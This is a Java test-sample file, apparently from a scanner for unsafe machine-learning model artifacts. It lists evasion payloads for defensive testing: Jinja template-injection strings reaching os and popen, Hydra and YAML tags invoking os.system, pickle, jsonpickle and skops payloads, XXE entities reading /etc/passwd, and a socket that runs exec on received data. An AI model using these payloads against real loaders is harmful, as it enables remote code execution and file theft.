package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.utf8;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** Templates, settings and documents that make a loader call, render or read something. */
final class SettingsEvasions {
  private static final List<String> TEMPLATES =
      List.of(
          "{{ ''.__class__.__mro__[1].__subclasses__() }}",
          "{{ ''['__class__'] }}",
          "{{ ''[\"__cl\" \"ass__\"] }}",
          "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}",
          "{{ ''['\\N{LOW LINE}\\N{LOW LINE}class__'] }}",
          "{{ ''['%c%cclass%c%c'|format(95,95,95,95)] }}",
          "{{ ''[['__', 'class', '__']|join] }}",
          "{{ ''|attr('__class__') }}",
          "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
          "{{ ''|attr(x ~ y) }}",
          "{{ lipsum.__globals__['os'] }}",
          "{{ cycler.__init__.__globals__ }}",
          "{{ joiner.__init__ }}",
          "{{ namespace.__init__.__globals__ }}",
          "{{ self.__init__.__globals__.__builtins__ }}",
          "{{ messages.__class__ }}",
          "{{ (messages|first).__class__ }}",
          "{% set x = messages %}{{ x.__init__ }}",
          "{% for k in messages.__class__.__base__.__subclasses__() %}{{ k }}{% endfor %}",
          "{% if ''.__class__ %}{% endif %}",
          "{% macro f(x) %}{{ x.__globals__ }}{% endmacro %}{{ f(cycler) }}",
          "{% with a = ''.__class__ %}{{ a }}{% endwith %}",
          "{%- call(x) f() -%}{{ x.__class__ }}{%- endcall -%}",
          "{% filter upper %}{{ ''.__class__ }}{% endfilter %}",
          "{{ raise_exception.__globals__ }}",
          "{{ strftime_now.__globals__ }}",
          "{{ x.gi_frame.f_back.f_globals }}",
          "{{ x.mro() }}",
          "{{ range.__self__ }}",
          "{{ messages|map(attribute='__class__')|list }}",
          "{{ messages|selectattr('__class__') }}",
          "{{ messages|groupby('__class__') }}",
          "{{ messages|sort(attribute='__class__') }}",
          "{{ messages|sum(attribute='__class__') }}",
          "{{ '{0.__class__}'.format(x) }}",
          "{{ '{x.__class__.__mro__}'|format(x=1) }}",
          "{{ ('%s' % '__class__') and x['__globals__'] }}",
          "{{ dict(__class__=1) and x[dict(__class__=1)|first] }}",
          "{% set a %}__class__{% endset %}{{ x[a] }}",
          "{{ x['__class__'.lower()] }}",
          "{{ x['__CLASS__'|lower] }}",
          "{{ x['__ssalc__'[::-1]] }}",
          "{{ x['__claXss__'|replace('X','')] }}",
          "{{ x[request.args.a] or x['__class__'] }}",
          "{{ ''\n.\n__class__ }}",
          "{{ '' . __class__ }}",
          "{{ popen('id') }}",
          "{{ x.popen('id') }}",
          "{% include x.__class__ %}",
          "{{ get_flashed_messages.__globals__ }}",
          "{{ url_for('x') }}",
          "# for x in y\n{{ x.__class__ }}");

  private SettingsEvasions() {}

  static List<Evasion> all() {
    Evasion.Shelf shelf = new Evasion.Shelf();
    templates(shelf);
    targets(shelf);
    yaml(shelf);
    repositories(shelf);
    skops(shelf);
    documents(shelf);
    return shelf.all();
  }

  private static String quoted(String text) {
    return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
  }

  private static void templates(Evasion.Shelf shelf) {
    for (String template : TEMPLATES) {
      shelf.runs("template " + template, "chat_template.jinja", utf8(template));
    }
    String evil = TEMPLATES.getFirst();
    shelf
        .odd(
            "template that looks into itself",
            "chat_template.jinja",
            utf8("{{ self._TemplateReference__context }}"))
        .runs(
            "template in a tokenizer's settings",
            "tokenizer_config.json",
            utf8("{\"chat_template\":" + quoted(evil) + "}"))
        .runs(
            "template in a list of templates",
            "tokenizer_config.json",
            utf8(
                "{\"chat_template\":[{\"name\":\"default\",\"template\":\"{{ x }}\"},"
                    + "{\"name\":\"tool_use\",\"template\":"
                    + quoted(evil)
                    + "}]}"))
        .runs(
            "template in a processor's settings",
            "processor_config.json",
            utf8("{\"chat_template\":" + quoted(evil) + "}"))
        .runs(
            "template in a file of templates",
            "chat_template.json",
            utf8("{\"chat_template\":" + quoted(evil) + "}"))
        .runs(
            "template with escaped braces",
            "tokenizer_config.json",
            utf8("{\"chat_template\":" + quoted(evil).replace("{", "\\u007b") + "}"))
        .runs(
            "template in UTF-16",
            "tokenizer_config.json",
            ("{\"chat_template\":" + quoted(evil) + "}").getBytes(StandardCharsets.UTF_16LE))
        .runs(
            "template with a mark of byte order",
            "tokenizer_config.json",
            utf8("\ufeff{\"chat_template\":" + quoted(evil) + "}"))
        .runs(
            "template in settings of YAML",
            "config.yaml",
            utf8("chat_template: " + quoted(evil) + "\n"));
  }

  private static void targets(Evasion.Shelf shelf) {
    for (String target :
        List.of(
            "os.system",
            "builtins.eval",
            "builtins.exec",
            "subprocess.Popen",
            "subprocess.check_output",
            "torch.hub.load",
            "torch.load",
            "pickle.loads",
            "importlib.import_module",
            "posix.system",
            "shutil.rmtree",
            "numpy.load",
            "pandas.read_pickle",
            "joblib.load",
            "nemo.utils.os.system",
            "torch.os.system",
            "hydra.utils.os.popen",
            "sys.modules",
            "webbrowser.open")) {
      shelf.runs(
          "target " + target, "config.json", utf8("{\"model\":{\"_target_\":\"" + target + "\"}}"));
    }
    shelf
        .runs("target in a list", "c.yaml", utf8("a:\n  - _target_: os.system\n"))
        .runs("target in flow style", "c.yaml", utf8("{a: {_target_: os.system}}\n"))
        .runs("target by an anchor", "c.yaml", utf8("a: &x os.system\nb:\n  _target_: *x\n"))
        .runs(
            "target in a second document", "c.yaml", utf8("a: 1\n---\nb:\n  _target_: os.system\n"))
        .runs("target with escapes", "c.yaml", utf8("a:\n  \"_t\\x61rget_\": \"os.syst\\x65m\"\n"))
        .runs("target as a folded text", "c.yaml", utf8("a:\n  _target_: >-\n    os.system\n"))
        .runs(
            "target that Hydra looks up",
            "c.yaml",
            utf8("a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"))
        .odd("target of an unknown package", "c.yaml", utf8("a:\n  _target_: acme.Thing\n"))
        .runs(
            "target of a flavour",
            "MLmodel",
            utf8("flavors:\n  python_function:\n    loader_module: os\n"))
        .odd(
            "target of a flavour of an unknown package",
            "MLmodel",
            utf8("flavors:\n  python_function:\n    loader_module: acme.loader\n"));
  }

  private static void yaml(Evasion.Shelf shelf) {
    for (String tag :
        List.of(
            "!!python/object/apply:os.system [id]",
            "!!python/object/new:os.system [id]",
            "!!python/name:os.system",
            "!!python/module:os",
            "!!python/object:subprocess.Popen {}",
            "!<tag:yaml.org,2002:python/object/apply:os.system> [id]")) {
      shelf.runs("YAML " + tag, "c.yaml", utf8("a: " + tag + "\n"));
    }
    shelf
        .runs(
            "YAML with a handle of its own",
            "c.yaml",
            utf8("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n"))
        .runs("YAML tag in a key", "c.yaml", utf8("? !!python/object/apply:os.system [id]\n: 1\n"))
        .odd("YAML that is nested without end", "c.yaml", utf8("[".repeat(5000)))
        .odd("YAML that is broken", "c.yaml", utf8("a: [1, 2\nb: }\n"));
  }

  private static void repositories(Evasion.Shelf shelf) {
    shelf
        .runs(
            "library of an adapter",
            "adapter_config.json",
            utf8(
                "{\"auto_mapping\":{\"base_model_class\":\"Popen\",\"parent_library\":\"subprocess\"}}"))
        .runs(
            "part of a pipeline",
            "model_index.json",
            utf8("{\"_class_name\":\"P\",\"unet\":[\"subprocess\",\"Popen\"]}"))
        .odd(
            "code of the repository",
            "config.json",
            utf8("{\"auto_map\":{\"AutoModel\":\"modeling.M\"}}"))
        .odd(
            "code of another repository",
            "config.json",
            utf8("{\"auto_map\":{\"AutoModel\":\"evil/repo--modeling.M\"}}"))
        .odd(
            "code of the repository's tokenizer",
            "tokenizer_config.json",
            utf8("{\"auto_map\":{\"AutoTokenizer\":[\"t.T\",null]}}"))
        .odd(
            "code of a pipeline",
            "config.json",
            utf8("{\"custom_pipelines\":{\"x\":{\"impl\":\"p.P\"}}}"))
        .odd("remote code asked for", "config.json", utf8("{\"trust_remote_code\":true}"))
        .odd(
            "remote code within settings",
            "config.json",
            utf8("{\"text_config\":{\"auto_map\":{\"AutoConfig\":\"c.C\"}}}"))
        .odd("remote code in YAML", "config.yaml", utf8("model:\n  trust_remote_code: true\n"))
        .odd(
            "module of sentence-transformers",
            "modules.json",
            utf8("[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"acme.Module\"}]"))
        .runs(
            "module of sentence-transformers of Python",
            "modules.json",
            utf8("[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"subprocess.Popen\"}]"))
        .odd("source that runs a program", "modeling.py", utf8("import os\nos.system('id')\n"))
        .odd(
            "source that hides a call",
            "modeling.py",
            utf8("exec(__import__('base64').b64decode('aWQ='))\n"))
        .odd(
            "source that opens a connection",
            "modeling.py",
            utf8("import socket\ns = socket.create_connection((h, 1))\nexec(s.recv(99))\n"))
        .odd(
            "source with another name for a module",
            "modeling.py",
            utf8("import subprocess as s\ns.run(['id'])\n"))
        .odd(
            "source that imports a function",
            "modeling.py",
            utf8("from os import system\nsystem('id')\n"))
        .odd(
            "source that imports by name",
            "modeling.py",
            utf8("import importlib as i\ni.import_module('o' + 's')\n"))
        .odd(
            "source that asks for an attribute",
            "modeling.py",
            utf8("import os\ngetattr(os, 'sys' + 'tem')('id')\n"))
        .runs(
            "jsonpickle that calls",
            "m.json",
            utf8("{\"py/reduce\":[{\"py/type\":\"os.system\"}]}"))
        .runs("jsonpickle that builds", "m.json", utf8("{\"py/object\":\"subprocess.Popen\"}"));
  }

  private static String node(String module, String type, String loader) {
    return "{\"__class__\":\"%s\",\"__module__\":\"%s\",\"__loader__\":\"%s\",\"content\":{}}"
        .formatted(type, module, loader);
  }

  private static byte[] skopsFile(String schema) {
    return new RawZip().add(RawZip.entry("schema.json", utf8(schema))).end();
  }

  private static void skops(Evasion.Shelf shelf) {
    shelf
        .runs("skops function of Python", "m.skops", skopsFile(node("os", "system", "TypeNode")))
        .runs(
            "skops object of Python",
            "m.skops",
            skopsFile(node("subprocess", "Popen", "ObjectNode")))
        .runs("skops reduces", "m.skops", skopsFile(node("builtins", "eval", "ReduceNode")))
        .odd(
            "skops object of an unknown package",
            "m.skops",
            skopsFile(node("acme", "Model", "ObjectNode")))
        .odd(
            "skops loader nobody knows", "m.skops", skopsFile(node("builtins", "dict", "EvilNode")))
        .odd(
            "skops operator that is none",
            "m.skops",
            skopsFile(node("sklearn.svm", "SVC", "OperatorFuncNode")))
        .runs(
            "skops method that leads out",
            "m.skops",
            skopsFile(
                "{\"__class__\":\"x\",\"__module__\":\"builtins\",\"__loader__\":\"MethodNode\","
                    + "\"content\":{\"func\":\"__globals__\",\"obj\":"
                    + node("builtins", "dict", "DictNode")
                    + "}}"))
        .runs(
            "skops function by its path",
            "m.skops",
            skopsFile(
                "{\"__class__\":\"function\",\"__module__\":\"builtins\",\"__loader__\":"
                    + "\"FunctionNode\",\"content\":{\"module_path\":\"os\",\"function\":\"system\"}}"))
        .runs(
            "skops with a pickle beside its schema",
            "m.skops",
            new RawZip()
                .add(RawZip.entry("schema.json", utf8(node("builtins", "dict", "DictNode"))))
                .add(
                    RawZip.entry(
                        "1.npy",
                        ModelFiles.npy(
                            "|O",
                            "(1,)",
                            io.sallyport.artifacts.PickleBytes.calling("os", "system", "id"))))
                .end());
  }

  private static void documents(Evasion.Shelf shelf) {
    shelf
        .odd(
            "XML with an entity",
            "m.xml",
            utf8("<!DOCTYPE net [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><net>&x;</net>"))
        .odd(
            "XML with an outside document type",
            "m.pmml",
            utf8("<!DOCTYPE PMML SYSTEM \"http://example.org/x.dtd\"><PMML/>"))
        .odd(
            "XML with entities in entities",
            "m.xml",
            utf8("<!DOCTYPE n [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\">]><net>&b;</net>"))
        .odd(
            "XML with an entity in UTF-16",
            "m.xml",
            "\ufeff<!DOCTYPE n [<!ENTITY a SYSTEM \"file:///x\">]><net>&a;</net>"
                .getBytes(StandardCharsets.UTF_16LE))
        .odd(
            "XML with parameter entities",
            "m.xml",
            utf8("<!DOCTYPE n [<!ENTITY % a SYSTEM \"http://example.org/x\"> %a;]><net/>"))
        .odd(
            "XML that includes another",
            "m.xml",
            utf8(
                "<net xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"/etc/x\"/></net>"))
        .runs(
            "OpenVINO that loads a library",
            "m.xml",
            utf8("<net><rt_info><extension library=\"/tmp/evil.so\"/></rt_info></net>"))
        .odd(
            "OpenVINO weights that climb out",
            "m.xml",
            utf8("<net><weights path=\"../../etc/passwd\"/></net>"))
        .odd(
            "OpenVINO operation of an extension",
            "m.xml",
            utf8("<net><layers><layer name=\"a\" type=\"X\" version=\"evil\"/></layers></net>"))
        .odd("PMML with a script", "m.pmml", utf8("<PMML><script>x</script></PMML>"))
        .odd(
            "PMML with a function of Java",
            "m.pmml",
            utf8(
                "<PMML><TransformationDictionary><DerivedField name=\"a\"><Apply "
                    + "function=\"java.lang.Runtime.exec\"/></DerivedField>"
                    + "</TransformationDictionary></PMML>"))
        .odd(
            "PMML with a table elsewhere",
            "m.pmml",
            utf8(
                "<PMML><TableLocator><Extension name=\"path\" value=\"file:///etc/passwd\"/>"
                    + "</TableLocator></PMML>"))
        .odd("XML that is nested without end", "m.xml", utf8("<a>".repeat(5000)))
        .odd("JSON that is nested without end", "config.json", utf8("[".repeat(5000)))
        .odd("JSON that breaks off", "config.json", utf8("{\"a\":[1,2"));
  }
}
